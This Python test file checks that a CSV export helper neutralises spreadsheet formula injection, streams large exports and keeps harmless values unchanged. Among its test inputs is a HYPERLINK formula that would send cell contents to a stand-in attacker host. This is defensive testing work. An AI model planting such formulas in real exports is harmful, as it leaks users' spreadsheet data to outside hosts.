"""A spreadsheet opens the file and runs nothing that somebody wrote into it."""

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest

from shared.features.listing.sheet import cell, lines

COLUMNS = ("reference", "product", "issue")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1"])
def test_what_would_begin_a_formula_is_text(text: str) -> None:
    assert cell(text).startswith("'")
    assert cell(text).replace("'", "") == text


@pytest.mark.parametrize("mark", [";", "; ", "\n", "\t", "|", "\r\n"])
@pytest.mark.parametrize("formula", ["=1+1", '=HYPERLINK("https://evil.example/?"&A1)', "@SUM(A1)", "+1", "-1", "＝1"])
def test_no_formula_begins_where_other_separators_are_used(mark: str, formula: str) -> None:
    assert cell(f"Tarnbrook{mark}{formula}") == f"Tarnbrook{mark}'{formula}"


def test_what_is_harmless_stays_as_it_is() -> None:
    values = [
        None,
        True,
        Decimal("-12.50"),
        -0.5,
        ["a", "b"],
        datetime(2026, 3, 14, 9, tzinfo=UTC),
        "a = b",
        'Ops, "quoted"',
        "x; y-z",
    ]
    assert [cell(value) for value in values] == [
        "", "yes", "-12.50", "-0.5", "a; b", "2026-03-14T09:00:00Z", "a = b", 'Ops, "quoted"', "x; y-z",
    ]  # fmt: skip


async def test_every_row_comes_back_as_it_was() -> None:
    async def rows() -> AsyncIterator[dict[str, Any]]:
        for number in range(3000):
            yield dict.fromkeys(COLUMNS) | {"reference": f"R{number}", "product": 'Line\none, "two"'}

    pieces = [piece async for piece in lines(COLUMNS, rows())]
    assert len(pieces) > 1, "a large file is not kept in memory whole"
    read = list(csv.reader(io.StringIO(b"".join(pieces).decode(), newline="")))
    assert tuple(read[0]) == COLUMNS
    assert [row[0] for row in read[1:]] == [f"R{number}" for number in range(3000)]
    assert {row[COLUMNS.index("product")] for row in read[1:]} == {'Line\none, "two"'}
